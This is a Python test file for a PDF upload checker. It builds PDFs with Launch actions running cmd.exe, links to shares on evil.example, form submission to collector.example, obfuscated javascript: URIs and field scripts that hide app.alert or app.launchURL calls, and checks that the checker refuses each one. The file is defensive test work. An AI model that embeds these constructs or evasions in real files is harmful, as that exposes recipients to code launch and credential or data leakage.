"""What a PDF may do: links and bookmarks, nothing by itself. Every file here is well-formed."""

import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from reportlab.pdfgen.canvas import Canvas

from parley.files import pdf
from parley.files.checks import FileRefused, check_pdf
from parley.files.flaws import Flaw, Flawed
from parley.files.tests import factories

Change = Callable[[pikepdf.Pdf], None]
SHARE = "\\\\evil.example\\a.pdf"
WEB = "https://collector.example/x"


def saved(change: Change, **options: Any) -> bytes:
    with pikepdf.open(io.BytesIO(factories.real_pdf(2))) as document:
        change(document)
        target = io.BytesIO()
        document.save(target, **options)
    return target.getvalue()


def flaw_of(content: bytes, folder: Path) -> Flaw | None:
    path = folder / "file.pdf"
    path.write_bytes(content)
    try:
        with path.open("rb") as file:
            pdf.inspect(file)
    except Flawed as flawed:
        return flawed.flaw
    return None


def action(kind: str, **entries: Any) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **entries)


def opens_with(what: Dictionary) -> Change:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = what

    return change


def page_does(what: Dictionary) -> Change:
    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].obj.AA = Dictionary(O=what)

    return change


def annotation(subtype: str = "Link", **entries: Any) -> Change:
    def change(document: pikepdf.Pdf) -> None:
        rect = Array([0, 0, 100, 100])
        note = Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=rect, **entries)
        document.pages[0].obj.Annots = Array([document.make_indirect(note)])

    return change


def link(what: Dictionary) -> Change:
    return annotation(A=what)


def link_to(address: str) -> Change:
    return link(action("URI", URI=String(address)))


def field(name: str, **entries: Any) -> Change:
    def change(document: pikepdf.Pdf) -> None:
        group = document.make_indirect(Dictionary(T=String("Order")))
        box = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String(name), Parent=group, **entries)
        box.Rect = Array([0, 0, 100, 20])
        box = document.make_indirect(box)
        group.Kids = Array([box])
        document.pages[0].obj.Annots = Array([box])
        document.Root.AcroForm = Dictionary(Fields=Array([group]))

    return change


def formatted_by(script: str) -> Change:
    return field("Amount", AA=Dictionary(F=action("JavaScript", JS=String(script))))


def named_behind_reference(kind: str, **entries: Any) -> Change:
    def change(document: pikepdf.Pdf) -> None:
        name = document.make_indirect(Name(f"/{kind}"))
        document.Root.OpenAction = Dictionary(S=name, **entries)

    return change


def followed_by(what: Dictionary) -> Dictionary:
    return action("GoTo", D=Array([0, Name.Fit]), Next=Array([what]))


def endless_next(document: pikepdf.Pdf) -> None:
    first = document.make_indirect(action("Named", N=Name.NextPage))
    first.Next = document.make_indirect(action("Named", N=Name.PrevPage, Next=first))
    document.Root.OpenAction = first


def endless_target(document: pikepdf.Pdf) -> None:
    target = document.make_indirect(Dictionary(R=Name.C, N=String("a")))
    target.T = target
    link(action("GoToE", T=target))(document)


def endless_outline(document: pikepdf.Pdf) -> None:
    first = document.make_indirect(Dictionary(Title=String("1")))
    first.Next = document.make_indirect(Dictionary(Title=String("2"), Next=first))
    document.Root.Outlines = document.make_indirect(Dictionary(First=first, Last=first, Count=2))


def external_contents(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.Contents = document.make_stream(b"", F=String(SHARE))


def external_picture(document: pikepdf.Pdf) -> None:
    picture = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, F=String(SHARE), FFilter=Name.DCTDecode)
    document.pages[0].obj.Resources.XObject = Dictionary(I=picture)


def reference_object(document: pikepdf.Pdf) -> None:
    form = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form.Ref = Dictionary(F=String(SHARE), Page=0)
    document.pages[0].obj.Resources.XObject = Dictionary(I=form)


def postscript_object(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.Resources.XObject = Dictionary(I=document.make_stream(b"showpage", Subtype=Name.PS))


def model_with_script(document: pikepdf.Pdf) -> None:
    model = document.make_stream(b"U3D", Type=Name("/3D"), Subtype=Name.U3D)
    model.OnInstantiate = document.make_stream(b"runtime.x()")
    annotation("3D", **{"3DD": model})(document)


def step_of_presentation(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.PresSteps = Dictionary(Type=Name.NavNode, NA=action("URI", URI=String(WEB)))


def unreached_action(document: pikepdf.Pdf) -> None:
    document.Root.Unknown = document.make_indirect(action("Launch", F=String("cmd.exe")))


def named_script(document: pikepdf.Pdf) -> None:
    leaf = Dictionary(Names=Array([String("a"), action("JavaScript", JS=String("app.alert(1)"))]))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Kids=Array([document.make_indirect(leaf)])))


def enclosing(name: str, content: bytes) -> Change:
    def change(document: pikepdf.Pdf) -> None:
        document.attachments[name] = pikepdf.AttachedFileSpec(document, content, filename=name)

    return change


def scripted_pdf() -> bytes:
    return saved(opens_with(action("JavaScript", JS=String("app.alert(1)"))))


HOSTILE: dict[str, tuple[Change, Flaw]] = {
    "address when opened": (opens_with(action("URI", URI=String(WEB))), Flaw.ACTION),
    "address when a page is shown": (page_does(action("URI", URI=String(WEB))), Flaw.ACTION),
    "address in a step of a presentation": (step_of_presentation, Flaw.ACTION),
    "share when opened": (opens_with(action("GoToR", D=Array([0, Name.Fit]), F=String(SHARE))), Flaw.ACTION),
    "file on the web when opened": (
        opens_with(action("GoToR", D=Array([0, Name.Fit]), F=Dictionary(FS=Name.URL, F=String(WEB)))),
        Flaw.ACTION,
    ),
    "enclosed file when opened": (opens_with(action("GoToE", T=Dictionary(R=Name.C, N=String("a")))), Flaw.ACTION),
    "share by click": (link(action("GoToR", D=Array([0, Name.Fit]), F=String(SHARE))), Flaw.ACTION),
    "thread on a share by click": (link(action("Thread", D=0, F=String(SHARE))), Flaw.ACTION),
    "name of action behind a reference": (named_behind_reference("Launch", F=String("cmd.exe")), Flaw.ACTION),
    "form sent, behind a reference": (named_behind_reference("SubmitForm", F=String(WEB)), Flaw.ACTION),
    "data imported, behind a reference": (named_behind_reference("ImportData", F=String(SHARE)), Flaw.ACTION),
    "program after something harmless": (opens_with(followed_by(action("Launch", F=String("cmd.exe")))), Flaw.ACTION),
    "program in a place nobody knows": (unreached_action, Flaw.ACTION),
    "script after a click": (link(followed_by(action("JavaScript", JS=String("app.alert(1)")))), Flaw.SCRIPT),
    "named script in a deeper node": (named_script, Flaw.SCRIPT),
    "script of a model": (model_with_script, Flaw.SCRIPT),
    "external contents": (external_contents, Flaw.EXTERNAL),
    "external picture": (external_picture, Flaw.EXTERNAL),
    "reference object": (reference_object, Flaw.EXTERNAL),
    "PostScript": (postscript_object, Flaw.SCRIPT),
    "sound action": (page_does(action("Sound", Sound=Dictionary())), Flaw.ACTION),
    "film action": (link(action("Movie")), Flaw.ACTION),
    "rendition": (annotation("Screen", A=action("Rendition", OP=0)), Flaw.ACTION),
    "rendition by itself": (annotation("Screen", AA=Dictionary(PV=action("Rendition", OP=0))), Flaw.ACTION),
    "sound note": (annotation("Sound"), Flaw.ACTION),
    "film note": (annotation("Movie", Movie=Dictionary(F=String("a.avi"))), Flaw.ACTION),
    "endless chain of actions": (endless_next, Flaw.ACTION),
    "endless chain of targets": (endless_target, Flaw.ACTION),
    "endless bookmarks": (endless_outline, Flaw.DAMAGED),
    "PDF with a script enclosed": (enclosing("a.pdf", scripted_pdf()), Flaw.ENCLOSED),
    "PDF two levels deep": (enclosing("a.pdf", saved(enclosing("b.pdf", factories.real_pdf()))), Flaw.ENCLOSED),
    "HTML enclosed as text": (enclosing("readme.txt", b" <script>alert(1)</script>"), Flaw.ENCLOSED),
    "XHTML enclosed as XML": (
        enclosing("factur-x.xml", b"<?xml version='1.0'?><!-- --><html xmlns='http://www.w3.org/1999/xhtml'/>"),
        Flaw.ENCLOSED,
    ),
    "drawing enclosed as XML": (enclosing("a.xml", "\ufeff<svg:svg onload='x()'/>".encode("utf-16")), Flaw.ENCLOSED),
    "old office file enclosed as new": (enclosing("a.docx", b"\xd0\xcf\x11\xe0" + bytes(99)), Flaw.ENCLOSED),
}
HOSTILE_ADDRESSES = [
    SHARE,
    "//evil.example/a",
    "file://evil.example/a.pdf",
    "file:////evil.example/a.pdf",
    "file:\\\\evil.example\\a.pdf",
    "data:text/html,<script>alert(1)</script>",
    "vnd.sun.star.expand:${HOME}",
    "search-ms:query=x",
    "smb://evil.example/a",
]
SCRIPT_ADDRESSES = [
    "javascript:alert(1)",
    "java\0script:alert(1)",
    " JavaScript :alert(1)",
    "javascript:void(0);alert(1)",
]


@pytest.mark.parametrize("kind", HOSTILE)
def test_pdf_that_acts_is_refused(tmp_path: Path, kind: str) -> None:
    change, flaw = HOSTILE[kind]
    assert flaw_of(saved(change), tmp_path) == flaw
    packed = saved(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert flaw_of(packed, tmp_path) == flaw


@pytest.mark.parametrize("address", HOSTILE_ADDRESSES)
def test_link_to_more_than_a_page_is_refused(tmp_path: Path, address: str) -> None:
    assert flaw_of(saved(link_to(address)), tmp_path) == Flaw.ACTION


@pytest.mark.parametrize("address", SCRIPT_ADDRESSES)
def test_link_with_a_script_is_refused(tmp_path: Path, address: str) -> None:
    assert flaw_of(saved(link_to(address)), tmp_path) == Flaw.LINK_SCRIPT


@pytest.mark.parametrize(
    "address",
    [
        "https://alpine.example/?a=b:c",
        "HTTP://alpine.example",
        "mailto:anna@nordwind.example",
        "tel:+41 31 000 00 00",
        "www.alpine.example",
        "www.alpine.example:8080/a",
        "chapter2.pdf#page=3",
        "../other/terms.html",
        "#top",
        "file:///C:/Users/anna/a.docx",
        "javascript:void(0)",
        "javascript:void(0);",
        "javascript:;",
        "",
    ],
)
def test_ordinary_link_is_taken(tmp_path: Path, address: str) -> None:
    assert flaw_of(saved(link_to(address)), tmp_path) is None


def harmless_actions(document: pikepdf.Pdf) -> None:
    here = Array([document.pages[0].obj, Name.Fit])
    follow = [action("Hide", T=String("a")), action("Trans", Trans=Dictionary(S=Name.Dissolve))]
    document.Root.OpenAction = action("GoTo", D=here, Next=Array(follow))
    document.pages[0].obj.AA = Dictionary(O=action("SetOCGState", State=Array([Name.ON])), C=action("GoTo3DView"))
    link(action("ResetForm", Next=action("GoToR", D=Array([0, Name.Fit]), F=String("terms.pdf"))))(document)
    item = document.make_indirect(Dictionary(Title=String("Next"), A=action("Named", N=Name.NextPage)))
    document.Root.Outlines = document.make_indirect(Dictionary(First=item, Last=item, Count=1))


def names_that_look_like_actions(document: pikepdf.Pdf) -> None:
    page = document.pages[0].obj
    page.Resources.Font.EF = page.Resources.Font.F1
    for name in ("/JavaScript", "/A", "/AA", "/PA", "/OpenAction", "/F", "/URI"):
        page.Resources.Font[name] = page.Resources.Font.F1
    drawing = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    page.Resources.XObject = Dictionary(JS=drawing, XFA=drawing, EF=drawing)
    glyphs = Dictionary(JS=document.make_stream(b"0 0 d0"), S=document.make_stream(b"0 0 d0"))
    page.Resources.Font.F3 = Dictionary(Type=Name.Font, Subtype=Name.Type3, CharProcs=glyphs)
    document.Root.Dests = Dictionary(JS=Array([page, Name.Fit]), XFA=Dictionary(D=Array([page, Name.Fit])))
    root = document.make_indirect(Dictionary(Type=Name.StructTreeRoot))
    element = document.make_indirect(Dictionary(S=Name.Launch, P=root, Pg=page, K=0, A=Dictionary(O=Name.Layout)))
    root.K = element
    root.RoleMap = Dictionary(Launch=Name.P, JS=Name.P, XFA=Name.Span, S=Name.JavaScript)
    document.Root.StructTreeRoot = root


def test_harmless_actions_are_taken(tmp_path: Path) -> None:
    assert flaw_of(saved(harmless_actions), tmp_path) is None


def test_names_that_only_look_like_actions_are_taken(tmp_path: Path) -> None:
    assert flaw_of(saved(names_that_look_like_actions), tmp_path) is None


def test_empty_tree_of_scripts_is_taken(tmp_path: Path) -> None:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array()))

    assert flaw_of(saved(change), tmp_path) is None


def test_form_made_by_reportlab_is_taken(tmp_path: Path) -> None:
    target = io.BytesIO()
    canvas = Canvas(target)
    canvas.drawString(100, 750, "Supplier questionnaire")
    canvas.acroForm.textfield(name="answer", x=100, y=700, tooltip="Your answer")
    canvas.acroForm.checkbox(name="agreed", x=100, y=650)
    canvas.linkURL("https://nordwind.example/", (100, 600, 200, 620))
    canvas.bookmarkPage("start")
    canvas.addOutlineEntry("Start", "start")
    canvas.linkAbsolute("Back", "start", (100, 500, 200, 520))
    canvas.save()
    assert flaw_of(target.getvalue(), tmp_path) is None


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("factur-x.xml", b"<?xml version='1.0'?><rsm:CrossIndustryInvoice xmlns:rsm='urn:x'/>"),
        ("readme.txt", b"Dear all, 3 < 4"),
        ("table.csv", b"\xef\xbb\xbfname;number\nhtml;3\n"),
        ("plan.xlsx", b"PK\x03\x04" + bytes(99)),
        ("terms.pdf", factories.real_pdf()),
        ("Press.joboptions", b"<< /ASCII85EncodePages false >> setdistillerparams"),
        ("source.tex", b"\\documentclass{article}"),
        ("style.css", b"p { color: red }"),
    ],
)
def test_enclosed_data_is_taken(tmp_path: Path, name: str, content: bytes) -> None:
    assert flaw_of(saved(enclosing(name, content)), tmp_path) is None


@pytest.mark.parametrize(
    "script",
    [
        'AFNumber_Format(2, 0, 0, 0, "\\u20ac ", true);',
        "AFDate_FormatEx('dd.mm.yyyy');\r\nAFDate_KeystrokeEx('dd.mm.yyyy')",
        'AFSimple_Calculate("SUM", new Array ("a", "b\\"c"));',
        "AFRange_Validate(true, 0, true, -12.5)",
        "AFSpecial_Format( 0 )",
        "",
    ],
)
def test_script_that_only_formats_a_field_is_taken(tmp_path: Path, script: str) -> None:
    assert flaw_of(saved(formatted_by(script)), tmp_path) is None


@pytest.mark.parametrize(
    "script",
    [
        "app.alert(1)",
        'AFNumber_Format(2, 0, 0, 0, "", true); app.launchURL("https://collector.example")',
        'AFSimple_Calculate("SUM", new Array(app.alert(1)))',
        'AFNumber_Format("\\"); app.alert(1); ("")',
        'AFNumber_Format("a\n"); app.alert(1) //")',
        "AFNumber_Format = app.alert",
        "AFNumber_Format(event.value)",
        "AFNumber_Format(2)(app.alert(1))",
        "AFNumber_Format(2).constructor('x')",
        "/* */ AFNumber_Format(2)",
        'AFSpecial_Format("' + "a" * 30_000 + '")',
    ],
)
def test_any_other_script_of_a_field_is_refused(tmp_path: Path, script: str) -> None:
    path = tmp_path / "order.pdf"
    path.write_bytes(saved(formatted_by(script)))
    with pytest.raises(FileRefused, match=r"in the field “Order\.Amount”") as refused:
        check_pdf(path, "order.pdf")
    assert refused.value.flaw == Flaw.FIELD_SCRIPT


def test_script_of_many_quotes_is_read_once(tmp_path: Path) -> None:
    script = "AFNumber_Format(" + '"a",' * 4_000 + "x"
    assert flaw_of(saved(formatted_by(script)), tmp_path) == Flaw.FIELD_SCRIPT
